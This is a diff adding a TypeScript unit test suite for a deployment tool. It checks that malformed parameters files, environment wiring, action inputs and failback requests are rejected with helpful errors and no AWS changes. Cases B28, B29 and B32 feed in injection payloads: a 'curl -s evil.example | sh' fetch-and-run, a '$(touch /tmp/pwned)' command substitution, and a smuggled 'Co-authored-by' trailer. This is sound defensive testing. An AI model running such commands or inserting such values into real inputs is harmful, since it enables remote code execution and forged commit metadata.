@@ -1,0 +1,346 @@
+/**
+ * Bad-inputs catalogue, unit suite (issue 6; rows in ./catalogue.ts, table in docs/reliability.md).
+ * Each case goes through the product's real entry point with every AWS client mocked by a world
+ * that WOULD accept changes (change sets, executions, builds), and must end with an InputError
+ * that says what is wrong, where, and how to fix it, with no mutating AWS call made.
+ */
+import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { dirname, join } from 'node:path';
+
+import { StartImagePipelineExecutionCommand } from '@aws-sdk/client-imagebuilder';
+
+import { readInputs } from '../../../actions/lib/action/runtime';
+import { createAwsClients } from '../../../actions/lib/aws/clients';
+import { VirtualClock } from '../../../actions/lib/clock';
+import { createUpdateReport, updateAppStack } from '../../../actions/lib/cloudformation/update-app-stack';
+import { InputError } from '../../../actions/lib/errors';
+import { loadEnvironments } from '../../../actions/lib/parameters';
+import { RecordingLogger } from '../../../actions/lib/logger';
+import { resolveRegion } from '../../../actions/lib/region';
+import { VERIFY_ALB_INPUT_NAMES, verifyAlbInputSchema } from '../../../actions/lib/verify/inputs';
+import { BUILD_AMI_INPUT_NAMES, buildAmiInputSchema, toBuildAmiInputs } from '../../../actions/build-ami/src/inputs';
+import { toUpdateAppStackInputs, UPDATE_APP_STACK_INPUT_NAMES, updateAppStackInputSchema } from '../../../actions/update-app-stack/src/inputs';
+import { BAD_INPUTS, casesOf } from './catalogue';
+import { AwsWorld, REPO_ROOT, STACK } from './support/aws-world';
+import { awsMocks, expectNoMutatingCalls, receivedCommands, resetAwsMocks } from './support/no-mutation';
+import { createGitopsRepo, DEV_FILE, devParameters, devStackParameters, NEW_AMI, OLD_AMI, runGitops, type GitopsRepo } from './support/repo';
+
+const mocks = awsMocks();
+const PIPELINE_ARN = 'arn:aws:imagebuilder:us-east-1:123456789012:image-pipeline/patch-dev-app';
+const IMAGE_ARN = 'arn:aws:imagebuilder:us-east-1:123456789012:image/patch-dev-app/1.0.0/7';
+
+/** What a message must contain: what is wrong, where it is, and how to fix it. */
+interface Said {
+  what: string | RegExp;
+  where: string | RegExp;
+  fix: string | RegExp;
+}
+
+interface Scene {
+  world: AwsWorld;
+  clock: VirtualClock;
+  scratch: string;
+  repo: () => GitopsRepo;
+}
+
+type Act = (scene: Scene) => Promise<unknown> | unknown;
+
+interface Implementation {
+  act: Act;
+  said: Said;
+  /** The file an annotation should point at (parameters and wiring files), and its line. */
+  location?: { file: (scene: Scene) => string; line?: number };
+}
+
+// ---- parameters files, through updateAppStack (deploy mode, the real templates/app.yaml) ----------
+
+const TEMPLATE = join(REPO_ROOT, 'templates/app.yaml');
+
+/** A parameters file in the scratch directory: the real parameters/dev.json bumped to NEW_AMI, then `edit`ed. */
+function parametersFile(scene: Scene, edit: (text: string) => string = (t) => t): string {
+  const file = join(scene.scratch, DEV_FILE);
+  mkdirSync(dirname(file), { recursive: true });
+  writeFileSync(file, edit(devParameters(NEW_AMI)));
+  return file;
+}
+
+function deploy(scene: Scene, file: string) {
+  const inputs = {
+    stackName: STACK,
+    region: 'us-east-1',
+    parametersFile: file,
+    templateFile: TEMPLATE,
+    mode: 'deploy' as const,
+    timeoutMinutes: 60,
+    rollbackMonitoringMinutes: 5,
+    run: { id: '42', attempt: '1', commit: '0123456789abcdef' },
+  };
+  // Real SDK clients, built the way main.ts builds them; the mocks intercept every send.
+  const { cloudFormation, ec2 } = createAwsClients({ region: 'us-east-1' });
+  return updateAppStack(inputs, { clients: { cloudFormation, ec2 }, logger: new RecordingLogger(), clock: scene.clock }, createUpdateReport(inputs, 0));
+}
+
+const withParameters = (edit: (text: string) => string): Act => (scene) => deploy(scene, parametersFile(scene, edit));
+const replaceLine = (from: RegExp, to: string) => (text: string) => {
+  if (!from.test(text)) throw new Error(`fixture: ${from} is not in parameters/dev.json`);
+  return text.replace(from, to);
+};
+const fileOf = (scene: Scene) => join(scene.scratch, DEV_FILE);
+
+// ---- the wiring file, through loadEnvironments on a copy of the repository's layout --------------
+
+const WIRING = JSON.parse(readFileSync(join(REPO_ROOT, 'parameters/environments.json'), 'utf8')) as {
+  environments: Record<string, { region: string; stacks: Record<string, string>; verify: Record<string, unknown> }>;
+};
+
+/** parameters/environments.json as text after `edit`, in a scratch copy of the repository layout. */
+function wiringFile(scene: Scene, text: string): string {
+  for (const file of ['parameters/dev.json', 'parameters/prod.json', 'templates/app.yaml']) {
+    mkdirSync(dirname(join(scene.scratch, file)), { recursive: true });
+    writeFileSync(join(scene.scratch, file), readFileSync(join(REPO_ROOT, file)));
+  }
+  const file = join(scene.scratch, 'parameters/environments.json');
+  writeFileSync(file, text);
+  return file;
+}
+const wiringWith = (mutate: (wiring: typeof WIRING) => void): Act => (scene) => {
+  const copy = structuredClone(WIRING);
+  mutate(copy);
+  return loadEnvironments(wiringFile(scene, `${JSON.stringify(copy, null, 2)}\n`));
+};
+const wiringPath = (scene: Scene) => join(scene.scratch, 'parameters/environments.json');
+
+// ---- action inputs, through each action's schema the way main.ts reads them ---------------------
+
+const reader = (inputs: Record<string, string>) => (name: string) => inputs[name] ?? '';
+const updateAppStackInputs = (inputs: Record<string, string>, env: NodeJS.ProcessEnv = { AWS_REGION: 'us-east-1' }) => () =>
+  toUpdateAppStackInputs(readInputs(updateAppStackInputSchema, UPDATE_APP_STACK_INPUT_NAMES, reader({ 'stack-name': STACK, 'parameters-file': DEV_FILE, ...inputs })), env);
+const buildAmiInputs = (inputs: Record<string, string>, env: NodeJS.ProcessEnv = { AWS_REGION: 'us-east-1', GITHUB_RUN_ID: '42' }) => () =>
+  toBuildAmiInputs(readInputs(buildAmiInputSchema, BUILD_AMI_INPUT_NAMES, reader(inputs)), env);
+const verifyAlbInputs = (inputs: Record<string, string>) => () => {
+  const parsed = readInputs(verifyAlbInputSchema, VERIFY_ALB_INPUT_NAMES, reader({ 'stack-name': STACK, 'expected-ami-id': NEW_AMI, ...inputs }));
+  return resolveRegion(parsed.region, { AWS_REGION: 'us-east-1' });
+};
+
+// ---- workflow_dispatch inputs, through the gitops command the Failback workflow runs first -------
+
+const failback = (inputs: Record<string, string>): Act => (scene) => runGitops('resolve-failback', inputs, scene.repo().context(scene.clock));
+
+const IMPLEMENTATIONS: Record<string, Implementation> = {
+  B01: {
+    act: (scene) => deploy(scene, join(scene.scratch, 'parameters/missing.json')),
+    said: { what: 'no such file', where: /for \S+\/parameters\/missing\.json/, fix: 'Check the path (parametersFile in parameters/environments.json, or the parameters-file input)' },
+  },
+  B02: {
+    act: withParameters(() => ' \n'),
+    said: { what: 'the file is empty', where: `for `, fix: 'Write {"Parameters": {"AmazonMachineImage": "ami-…", …}}' },
+    location: { file: fileOf, line: 1 },
+  },
+  B03: {
+    act: withParameters(replaceLine(/"HealthCheckPath": "(.*)"\n/, '"HealthCheckPath": "$1",\n')),
+    said: { what: "trailing comma before '}'", where: /line 14, column \d+/, fix: 'Fix the syntax there' },
+    location: { file: fileOf, line: 14 },
+  },
+  B04: {
+    act: withParameters(() => '{\n  "Parameters": [\n    {"ParameterKey": "AmazonMachineImage", "ParameterValue": "ami-0bbbbbbbbbbbbbbb2"}\n  ]\n}\n'),
+    said: { what: '"Parameters" is an array, not an object', where: 'line 2', fix: 'Write "Parameters": {"Key": "value", …}' },
+    location: { file: fileOf, line: 2 },
+  },
+  B05: {
+    act: withParameters(replaceLine(/"DesiredCapacity": "2"/, '"DesiredCapacity": 2')),
+    said: { what: 'Parameters.DesiredCapacity is the number 2, not a string', where: 'line 7', fix: 'Write "2" in quotes' },
+    location: { file: fileOf, line: 7 },
+  },
+  B06: {
+    act: withParameters(replaceLine(/"InstanceType":/, '"InstanceTyp":')),
+    said: { what: 'unknown parameter "InstanceTyp"', where: 'line 5', fix: 'Rename it to "InstanceType"' },
+    location: { file: fileOf, line: 5 },
+  },
+  B07: {
+    act: withParameters(replaceLine(/ {4}"NetworkStackName": "patch-dev-network",\n/, '')),
+    said: { what: 'missing parameter "NetworkStackName"', where: /templates\/app\.yaml gives it no Default/, fix: 'Add "NetworkStackName": "…" under Parameters' },
+    location: { file: fileOf },
+  },
+  B08: {
+    act: withParameters(replaceLine(/"InstanceType": "t3.micro"/, '"InstanceType": "t2.micro"')),
+    said: { what: 'InstanceType = "t2.micro" is not one of the AllowedValues', where: 'line 5', fix: 'Use one of them' },
+    location: { file: fileOf, line: 5 },
+  },
+  B09: {
+    act: withParameters(replaceLine(/"SignalTimeout": "PT10M"/, '"SignalTimeout": "10 minutes"')),
+    said: { what: 'SignalTimeout = "10 minutes" does not match the AllowedPattern', where: 'line 10', fix: /the template says: an ISO 8601 duration such as PT10M.*Change the value to match/ },
+    location: { file: fileOf, line: 10 },
+  },
+  B10: {
+    act: withParameters(replaceLine(/"AmazonMachineImage": "ami-[0-9a-f]+"/, '"AmazonMachineImage": "ami-12345"')),
+    said: { what: 'AmazonMachineImage = "ami-12345" is not an AMI ID', where: 'line 4', fix: 'Use the ami-id output of build-ami' },
+    location: { file: fileOf, line: 4 },
+  },
+  B11: {
+    act: (scene) => {
+      scene.world.images.delete(NEW_AMI);
+      return deploy(scene, parametersFile(scene));
+    },
+    said: { what: `AmazonMachineImage = "${NEW_AMI}" does not exist in us-east-1`, where: 'line 4', fix: 'Use the ami-id output of build-ami for us-east-1' },
+    location: { file: fileOf, line: 4 },
+  },
+  B13: {
+    act: (scene) => {
+      scene.world.images.set(NEW_AMI, { ImageId: NEW_AMI, State: 'available', DeprecationTime: '2025-11-01T00:00:00.000Z' });
+      return deploy(scene, parametersFile(scene));
+    },
+    said: { what: 'was deprecated on 2025-11-01T00:00:00.000Z', where: 'line 4', fix: `aws ec2 disable-image-deprecation --image-id ${NEW_AMI}` },
+    location: { file: fileOf, line: 4 },
+  },
+  B14: {
+    act: (scene) => {
+      scene.world.images.set(NEW_AMI, { ImageId: NEW_AMI, State: 'disabled' });
+      return deploy(scene, parametersFile(scene));
+    },
+    said: { what: 'is disabled, so no instance can launch from it', where: 'line 4', fix: `aws ec2 enable-image --image-id ${NEW_AMI}` },
+    location: { file: fileOf, line: 4 },
+  },
+  B15: {
+    act: withParameters((text) => text.replace('"Tags": {', `"Tags": {\n    "Padding": "${'x'.repeat(70_000)}",`)),
+    said: { what: /\d+ bytes, over the 65536-byte \(64 KiB\) limit/, where: `Parameters file invalid for `, fix: 'check that the path names the right file' },
+    location: { file: fileOf, line: 1 },
+  },
+  B16: {
+    act: (scene) => runGitops('resolve-environment', { environment: 'prd' }, scene.repo().context(scene.clock)),
+    said: { what: 'Unknown environment "prd"', where: 'parameters/environments.json', fix: /Did you mean "prod"\?.*Use one of them/ },
+  },
+  B17: {
+    act: (scene) => {
+      const text = readFileSync(join(REPO_ROOT, 'parameters/environments.json'), 'utf8');
+      const dev = /\n {4}"dev": \{[\s\S]*?\n {4}\},\n/.exec(text)?.[0];
+      if (!dev) throw new Error('fixture: no dev block in parameters/environments.json');
+      return loadEnvironments(wiringFile(scene, text.replace(dev, dev + dev.slice(1))));
+    },
+    said: { what: /key "dev" appears twice in environments \(first on line \d+\)/, where: 'Environment wiring invalid for ', fix: 'Delete or rename one of them' },
+    location: { file: wiringPath },
+  },
+  B18: {
+    act: wiringWith((w) => (w.environments.prod.stacks.app = 'patch-dev-app')),
+    said: { what: 'stack name "patch-dev-app" is used by both environments.dev.stacks.app and environments.prod.stacks.app', where: 'Environment wiring invalid for ', fix: 'Give each stack its own name' },
+    location: { file: wiringPath },
+  },
+  B19: {
+    act: wiringWith((w) => (w.environments.prod.region = 'us-east')),
+    said: { what: 'environments.prod.region = "us-east" must match pattern', where: 'Environment wiring invalid for ', fix: /The AWS region the environment's stacks live in, e\.g\. us-east-1\)\. Fix the value/ },
+    location: { file: wiringPath },
+  },
+  B20: {
+    act: wiringWith((w) => {
+      (w.environments.dev as Record<string, unknown>).regoin = 'us-east-1';
+    }),
+    said: { what: 'environments.dev has an unknown key "regoin"', where: 'Environment wiring invalid for ', fix: 'Rename it to "region"' },
+    location: { file: wiringPath },
+  },
+  B21: {
+    act: updateAppStackInputs({ region: 'us-east-1a' }),
+    said: { what: 'Region "us-east-1a"', where: 'from input region', fix: 'Use a name like us-east-1' },
+  },
+  B22: {
+    act: buildAmiInputs({ 'pipeline-arn': PIPELINE_ARN }, { AWS_REGION: 'US East (N. Virginia)', GITHUB_RUN_ID: '42' }),
+    said: { what: 'Region "US East (N. Virginia)"', where: 'from AWS_REGION', fix: 'Use a name like us-east-1' },
+  },
+  B23: {
+    act: buildAmiInputs({ 'pipeline-arn': PIPELINE_ARN, 'timeout-minutes': '-5' }),
+    said: { what: 'input "timeout-minutes" = "-5": must be a whole number of minutes', where: 'Invalid action inputs', fix: `Fix them in the workflow step's "with:" block` },
+  },
+  B24: {
+    act: updateAppStackInputs({ 'timeout-minutes': '100000' }),
+    said: { what: 'input "timeout-minutes" = "100000"', where: `the workflow step's "with:" block`, fix: "must be at most 360 (GitHub's job limit)" },
+  },
+  B25: {
+    act: verifyAlbInputs({ 'watch-seconds': '86400' }),
+    said: { what: 'input "watch-seconds" = "86400"', where: `the workflow step's "with:" block`, fix: 'must be at most 3600 seconds' },
+  },
+  B26: {
+    act: updateAppStackInputs({ mode: 'destroy' }),
+    said: { what: 'input "mode" = "destroy"', where: `the workflow step's "with:" block`, fix: 'must be deploy (create and execute a change set) or preview (create, show, delete)' },
+  },
+  B27: {
+    act: buildAmiInputs({ 'pipeline-arn': PIPELINE_ARN, 'image-arn': IMAGE_ARN }),
+    said: { what: 'input "pipeline-arn"', where: `the workflow step's "with:" block`, fix: 'set exactly one of pipeline-arn (start a build) and image-arn (wait on a started one)' },
+  },
+  B28: {
+    act: failback({ environment: 'dev', 'target-ami': 'ami-0bbbbbbbbbbbbbbb2; curl -s evil.example | sh', reason: 'p99 doubled' }),
+    said: { what: 'target-ami "ami-0bbbbbbbbbbbbbbb2; curl -s evil.exam…" is not an AMI ID', where: 'Failback request rejected for dev', fix: 'leave it empty to use the AMI before the current one' },
+  },
+  B29: {
+    act: failback({ environment: 'dev$(touch /tmp/pwned)', reason: 'p99 doubled' }),
+    said: { what: 'Unknown environment "dev$(touch /tmp/pwned)"', where: 'Failback request rejected for dev$(touch /tmp/pwned)', fix: 'Use one of them' },
+  },
+  B30: {
+    act: failback({ environment: 'dev', 'target-ami': NEW_AMI, reason: 'p99 doubled' }),
+    said: { what: `parameters/dev.json already names ${NEW_AMI}`, where: 'Failback refused for dev', fix: 'To redeploy it, re-run the last Deploy run; to go elsewhere, give another target-ami' },
+  },
+  B31: {
+    act: failback({ environment: 'qa', reason: 'p99 doubled' }),
+    said: { what: 'Unknown environment "qa"', where: 'the environments are dev, prod', fix: 'Fix the inputs and run the workflow again' },
+  },
+  B32: {
+    act: failback({ environment: 'dev', reason: 'p99 doubled\nCo-authored-by: mallory <m@evil.example>' }),
+    said: { what: 'reason contains a line break or control character', where: 'Failback request rejected for dev', fix: 'write it on one line' },
+  },
+};
+
+describe('bad inputs (unit): InputError with what, where and fix; no mutating AWS call', () => {
+  const cases = casesOf(BAD_INPUTS, 'unit');
+  let scene: Scene;
+  let repo: GitopsRepo | undefined;
+
+  beforeEach(() => {
+    resetAwsMocks();
+    const clock = new VirtualClock();
+    const world = new AwsWorld(clock, devStackParameters(OLD_AMI)).withImages(OLD_AMI, NEW_AMI).install(mocks);
+    // The build side would start builds too: a bad input that reached it would show up as a mutating call.
+    mocks.imageBuilder.on(StartImagePipelineExecutionCommand).resolves({ imageBuildVersionArn: IMAGE_ARN });
+    const scratch = mkdtempSync(join(tmpdir(), 'reliability-bad-input-'));
+    repo = undefined;
+    scene = { world, clock, scratch, repo: () => (repo ??= createGitopsRepo()) };
+  });
+  afterEach(() => {
+    rmSync(scene.scratch, { recursive: true, force: true });
+    repo?.remove();
+  });
+
+  it('implements every unit row of the catalogue, and only those', () => {
+    expect(Object.keys(IMPLEMENTATIONS).sort()).toEqual(cases.map((c) => c.id).sort());
+    expect(BAD_INPUTS.length).toBeGreaterThanOrEqual(25);
+  });
+
+  it.each(cases)('$id $name', async ({ id }) => {
+    const { act, said, location } = IMPLEMENTATIONS[id];
+    const error = await (async () => act(scene))().then(
+      () => undefined,
+      (caught: unknown) => caught,
+    );
+
+    expect(error).toBeInstanceOf(InputError);
+    const message = (error as InputError).message;
+    for (const part of [said.what, said.where, said.fix]) {
+      if (typeof part === 'string') expect(message).toContain(part);
+      else expect(message).toMatch(part);
+    }
+    if (location) {
+      const annotated = [(error as InputError).location, ...(error as InputError).annotations.map((a) => a.location)].filter(Boolean);
+      expect(annotated).toContainEqual(expect.objectContaining({ file: location.file(scene), ...(location.line ? { line: location.line } : {}) }));
+    }
+    expectNoMutatingCalls(mocks);
+    expect(scene.world.pendingChangeSets()).toEqual([]);
+    if (repo) {
+      // Nothing written to git either: a clean working tree, and origin's main still at the merge.
+      expect(repo.workspace.git('status', '--porcelain')).toBe('');
+      expect(repo.origin.git('rev-parse', 'main')).toBe(repo.seed.git('rev-parse', 'HEAD'));
+    }
+  });
+
+  it('the world would have accepted changes: a good file deploys through the same path (so "no mutation" is not vacuous)', async () => {
+    await deploy(scene, parametersFile(scene));
+    expect(receivedCommands(mocks)).toEqual(expect.arrayContaining(['cloudFormation:CreateChangeSet', 'cloudFormation:ExecuteChangeSet']));
+    expect(scene.world.runningAmi()).toBe(NEW_AMI);
+  });
+});
